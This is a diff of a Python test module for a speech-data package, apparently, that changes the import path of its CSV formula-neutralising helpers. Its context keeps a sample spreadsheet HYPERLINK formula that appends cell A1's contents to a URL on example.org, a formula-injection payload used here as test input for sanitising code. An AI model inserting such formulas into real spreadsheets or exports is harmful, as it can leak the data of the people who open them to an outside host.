@@ -9,7 +9,7 @@ import pandas as pd
 from hypothesis import given, strategies as st
 
 from conftest import read_metadata, run_cli, write_metadata
-from unscspeech.pipeline.csv_formulas import FORMULA_STARTS, neutralise_cell, neutralise_formulas, restore_cell, restore_formulas
+from unscspeech.processed.csv_formulas import FORMULA_STARTS, neutralise_cell, neutralise_formulas, restore_cell, restore_formulas
 from unscspeech.book.tables import read_tables
 
 HYPERLINK = '=HYPERLINK("https://example.org/?q="&A1,"Click")'
